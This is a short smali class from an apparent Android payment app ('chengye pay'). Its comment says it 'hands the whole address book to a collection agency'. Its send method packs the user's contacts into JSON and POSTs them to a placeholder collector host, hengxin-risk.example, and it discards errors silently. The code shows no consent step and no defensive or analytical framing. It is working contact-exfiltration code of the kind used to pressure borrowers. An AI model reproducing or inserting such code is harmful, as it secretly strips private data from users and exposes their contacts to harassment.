.class public final Lexample/chengye/pay/risk/PartnerReport;
.super Ljava/lang/Object;
.source "PartnerReport.java"

# Hands the whole address book to a collection agency.

.method private constructor <init>()V
    .registers 1
    .prologue
    .line 12
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    return-void
.end method

.method public static send(Lorg/json/JSONArray;)V
    .registers 4
    .param p0, "people"    # Lorg/json/JSONArray;
    .prologue
    .line 17
    :try_start_0
    new-instance v0, Lorg/json/JSONObject;
    invoke-direct {v0}, Lorg/json/JSONObject;-><init>()V
    .line 18
    const-string v1, "channel"
    const-string v2, "chengye"
    invoke-virtual {v0, v1, v2}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;
    .line 19
    const-string v1, "contacts"
    invoke-virtual {v0, v1, p0}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;
    .line 20
    const-string v1, "https://collect.hengxin-risk.example/v2/addressbook"
    invoke-virtual {v0}, Lorg/json/JSONObject;->toString()Ljava/lang/String;
    move-result-object v0
    invoke-static {v1, v0}, Lexample/chengye/pay/net/ApiClient;->post(Ljava/lang/String;Ljava/lang/String;)I
    :try_end_0
    .catch Lorg/json/JSONException; {:try_start_0 .. :try_end_0} :failed
    .line 24
    return-void

    .line 21
    :failed
    move-exception v0
    .line 22
    return-void
.end method
